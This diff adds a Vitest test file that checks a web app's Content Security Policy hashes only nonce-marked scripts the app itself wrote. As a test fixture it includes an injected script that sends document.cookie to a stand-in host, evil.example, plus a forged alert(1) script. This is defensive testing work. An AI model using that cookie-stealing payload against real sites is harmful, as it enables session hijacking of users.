@@ -1,0 +1,44 @@
+import { createHash } from "node:crypto";
+import { describe, expect, it } from "vitest";
+import { contentSecurityPolicy, newScriptMark, ownInlineScripts, scriptHashes } from "../../app/lib/content-security-policy.server.ts";
+
+const sha = (body: string) => `sha256-${createHash("sha256").update(body, "utf8").digest("base64")}`;
+
+describe("the policy's script hashes", () => {
+  const mark = newScriptMark();
+  const html = [
+    "<!DOCTYPE html><html><head>",
+    `<link rel="modulepreload" href="/assets/entry.js" nonce="${mark}"/>`,
+    "</head><body>",
+    // Injected into the page (say, through an HTML injection in some field).
+    "<p>Hello</p><script>fetch('https://evil.example/?c='+document.cookie)</script>",
+    '<script type="application/ld+json">{"@type":"Event"}</script>',
+    `<script nonce="${mark}">window.__reactRouterContext = {};</script>`,
+    `<script type="module" async="" nonce="${mark}">import "/assets/entry.js";</script>`,
+    '<script src="/assets/x.js"></script>',
+    "</body></html>",
+  ].join("");
+
+  it("hashes only the scripts the app wrote (marked for this render), not an injected one", () => {
+    const own = ownInlineScripts(html, mark);
+    expect(own.scripts).toEqual(["window.__reactRouterContext = {};", 'import "/assets/entry.js";']);
+    const policy = contentSecurityPolicy({ scriptHashes: scriptHashes(own.scripts) });
+    expect(policy).toContain(sha("window.__reactRouterContext = {};"));
+    expect(policy).not.toContain(sha("fetch('https://evil.example/?c='+document.cookie)"));
+    // Exactly two hashes.
+    expect(policy.match(/'sha256-/g)).toHaveLength(2);
+  });
+
+  it("removes the mark from the page, so it is served and cached without it", () => {
+    const own = ownInlineScripts(html, mark);
+    expect(own.html).not.toContain(mark);
+    expect(own.html).not.toContain("nonce=");
+    expect(own.html).toContain("<script>window.__reactRouterContext = {};</script>");
+  });
+
+  it("a script that names another mark (guessed or from another page) is not the app's", () => {
+    const forged = `<script nonce="${newScriptMark()}">alert(1)</script>`;
+    expect(ownInlineScripts(forged, mark).scripts).toEqual([]);
+    expect(newScriptMark()).not.toBe(newScriptMark());
+  });
+});
